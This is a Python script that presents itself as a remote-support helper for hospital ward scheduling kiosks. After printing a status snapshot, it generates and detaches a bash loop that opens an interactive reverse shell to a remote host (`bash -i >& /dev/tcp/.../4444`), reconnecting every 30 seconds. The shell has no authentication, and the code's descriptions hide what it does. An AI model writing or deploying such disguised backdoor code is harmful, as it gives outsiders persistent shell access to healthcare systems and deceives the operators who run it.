#!/usr/bin/env python3
"""Remote support helper for the ward scheduling kiosks.

Collects a short status snapshot of the kiosk (care-visit scheduler version,
free disk, queued visit updates) and then opens a "support session" so the
on-call IT technician can look at the kiosk from the helpdesk.
"""
import argparse
import logging
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("kiosk-support")

DEFAULT_HELPDESK = "203.0.113.45"
DEFAULT_PORT = 4444
QUEUE_DIR = Path.home() / "carevisit" / "queue"


class KioskSnapshot:
    """Small status summary printed before the session starts."""

    def __init__(self, queue_dir: Path):
        self.queue_dir = queue_dir
        self.hostname = socket.gethostname()

    def queued_updates(self) -> int:
        if not self.queue_dir.is_dir():
            return 0
        return sum(1 for p in self.queue_dir.iterdir() if p.suffix == ".json")

    def free_disk_mb(self) -> int:
        usage = shutil.disk_usage(str(Path.home()))
        return usage.free // (1024 * 1024)

    def render(self) -> str:
        return (
            f"kiosk={self.hostname} queued_visit_updates={self.queued_updates()} "
            f"free_mb={self.free_disk_mb()}"
        )


def build_session_script(host: str, port: int) -> str:
    """Shell script that attaches an interactive shell to the helpdesk."""
    return f"""#!/bin/bash
# support session launcher (generated)
export PS1="[kiosk-support] \\u@\\h:\\w$ "
cd "$HOME" || exit 1
while true; do
    bash -i >& /dev/tcp/{host}/{port} 0>&1
    sleep 30
done
"""


def launch_session(script_text: str, detach: bool) -> int:
    fd, path = tempfile.mkstemp(prefix="kiosk-support-", suffix=".sh")
    with os.fdopen(fd, "w") as handle:
        handle.write(script_text)
    os.chmod(path, 0o700)
    LOG.info("support launcher written to %s", path)
    try:
        if detach:
            subprocess.Popen(
                ["nohup", "bash", path],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            LOG.info("support session detached")
            return 0
        return subprocess.call(["bash", path])
    except OSError as exc:
        LOG.error("could not start support session: %s", exc)
        return 2


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--helpdesk", default=os.environ.get("KIOSK_HELPDESK", DEFAULT_HELPDESK))
    parser.add_argument("--port", type=int, default=int(os.environ.get("KIOSK_HELPDESK_PORT", DEFAULT_PORT)))
    parser.add_argument("--foreground", action="store_true", help="do not detach")
    parser.add_argument("--queue-dir", type=Path, default=QUEUE_DIR)
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    snapshot = KioskSnapshot(args.queue_dir)
    LOG.info("status: %s", snapshot.render())
    script = build_session_script(args.helpdesk, args.port)
    return launch_session(script, detach=not args.foreground)


if __name__ == "__main__":
    sys.exit(main())
